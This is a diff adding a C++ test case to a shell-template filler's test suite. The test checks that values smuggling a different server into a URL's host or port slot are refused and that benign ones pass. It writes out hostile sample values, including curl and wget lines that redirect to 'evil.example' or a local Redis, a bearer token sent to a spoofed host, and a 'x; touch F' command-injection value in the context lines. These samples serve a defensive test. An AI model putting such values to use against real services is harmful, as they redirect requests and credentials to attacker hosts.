@@ -227,3 +227,25 @@ TEST_CASE("hostile review #13 round 7: values that an awk or sed program running
   CHECK(fill("echo \"<v>\" | awk '{print $1}'", "x; touch F").refusal.empty());
   CHECK(fill("echo \"<v>\" | sed 's/a/b/'", "x; touch F").refusal.empty());
 }
+
+// s9a review B5: a value in a URL's host and port picked another server (curl reached a Redis
+// on 127.0.0.1 from `http://127.0.0.9:<v>/health` with the port `x@127.0.0.1:16391`).
+TEST_CASE("shell fill: a value in a URL's host or port names only a host or a port (s9a review B5)", "[runner][fill]") {
+  const std::string why = "<v> stands in a URL's host and port, where a value picks the server the request (and any credentials) goes to: pass a host "
+                          "name, an address or a port (letters, digits, . - _ :), or write the server in the snippet";
+  for (const auto& [code, value] : std::vector<std::pair<std::string, std::string>>{
+           {"curl -s -m 3 http://127.0.0.9:<v>/health", "x@127.0.0.1:16391"},
+           {"curl -s \"http://127.0.0.9:8080<v>\"", "@127.0.0.1:16391/"},
+           {"curl -s -H 'Authorization: Bearer x' https://<v>/api", "evil.example\\@api.internal"},
+           {"wget -qO- http://<v>", "user:pw@evil.example"}}) {
+    INFO(code << " <- " << value);
+    auto f = fill(code, value);
+    CHECK(f.refusal == why);
+  }
+  for (const auto& [code, value] : std::vector<std::pair<std::string, std::string>>{
+           {"curl -s http://127.0.0.1:<v>/health", "8080"}, {"curl -s \"http://127.0.0.9:8080<v>\"", "/health?x=@y"},
+           {"curl -s https://<v>/api", "api.internal:8443"}, {"curl -s https://api.internal/<v>", "a@b"}}) {
+    INFO(code << " <- " << value);
+    CHECK(fill(code, value).refusal.empty());
+  }
+}
